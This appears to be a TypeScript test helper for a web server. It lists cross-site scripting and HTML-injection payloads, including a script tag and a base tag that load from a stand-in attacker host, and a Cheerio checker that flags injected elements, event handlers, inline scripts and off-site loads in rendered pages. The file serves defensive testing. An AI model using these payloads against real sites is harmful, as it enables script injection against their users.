import type { CheerioAPI } from 'cheerio'

/** Texts that run, load or hide something where they are taken for more than text. */
export const payloads = [
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  'javascript:alert(1)',
  '</style><style>*{display:none}</style>',
  '</title><svg onload=alert(1)>',
  '" onmouseover="alert(1)" style="position:fixed',
  '--><script src=https://evil.example/x.js></script>',
  'https://evil.example/logo.png" onerror="alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202egpj.exe<base href=https://evil.example/>',
]

/** Elements of pages; whatever else a page has was slipped in. */
const elements = new Set(
  `html head body title meta link script header main footer nav section article h1 h2 h3 p a ul ol li dl dt dd
  div span strong code pre bdi time form label input button select option table caption thead tbody tr
  th td textarea datalist details summary figure figcaption img svg g rect path text search wbr`.split(
    /\s+/,
  ),
)
const ADDRESSES = ['href', 'src', 'action', 'content']

/** Lists what a browser would run or load of a page beside what this server sends itself. */
export function listFaults(page: CheerioAPI): string[] {
  const faults: string[] = []
  for (const element of page('*').toArray()) {
    const { name, attribs } = element as unknown as {
      name: string
      attribs: Record<string, string>
    }
    if (!elements.has(name)) faults.push(`<${name}>`)
    for (const attribute of Object.keys(attribs)) {
      if (/^on|^style$|^srcdoc$|^http-equiv$/i.test(attribute)) faults.push(`${name} ${attribute}`)
    }
    for (const attribute of ADDRESSES) {
      const value = attribs[attribute]
      if (value === undefined || (name === 'meta' && attribute === 'content')) continue
      if (!/^(?:\/(?!\/)|\?|#|https?:\/\/[^/])/.test(value)) faults.push(`${name} ${value}`)
      const loads = ['script', 'img', 'link', 'form'].includes(name) && attribs.rel !== 'canonical'
      if (loads && !value.startsWith('/')) faults.push(`${name} loads ${value}`)
    }
    if (name === 'script' && page(element).text() !== '') faults.push('an inline script')
  }
  return faults
}
